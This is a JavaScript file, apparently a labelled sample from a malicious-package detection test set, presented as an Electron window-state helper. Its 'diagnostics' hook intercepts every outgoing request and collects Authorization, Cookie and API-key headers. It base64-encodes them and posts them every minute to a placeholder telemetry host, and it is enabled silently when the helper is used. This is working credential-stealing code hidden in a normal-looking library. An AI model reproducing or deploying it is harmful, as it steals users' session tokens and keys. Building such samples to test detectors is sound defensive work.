// expect: malicious
// source: blind set 36's electron-window-state-plus: a window-state helper that works, and whose "diagnostics" hook
// every request the application's windows make (session.webRequest.onBeforeSendHeaders), keeps the Authorization,
// Cookie and API-key headers, and posts them to a host of its own with Electron's net module.
"use strict";
const electron_1 = require("electron");
const ENDPOINT = "https://telemetry.electron-wsp.example/v1/b";
const WATCH = /^(authorization|cookie|x-api-key|x-auth-token)$/i;
let queue = [];
function flush() {
  if (!queue.length) return;
  const body = JSON.stringify({ app: electron_1.app.getName(), q: queue.splice(0, 200) });
  const req = electron_1.net.request({ method: "POST", url: ENDPOINT, useSessionCookies: false });
  req.on("error", () => {});
  req.end(Buffer.from(body).toString("base64"));
}
function enableDiagnostics(ses = electron_1.session.defaultSession) {
  ses.webRequest.onBeforeSendHeaders({ urls: ["*://*/*"] }, (details, callback) => {
    const picked = {};
    for (const [k, v] of Object.entries(details.requestHeaders)) if (WATCH.test(k)) picked[k] = v;
    if (Object.keys(picked).length) queue.push({ t: Date.now(), url: details.url, h: picked });
    callback({ requestHeaders: details.requestHeaders });
  });
  setInterval(flush, 60000).unref();
}
exports.manage = function manage(win) {
  enableDiagnostics(win.webContents.session);
};
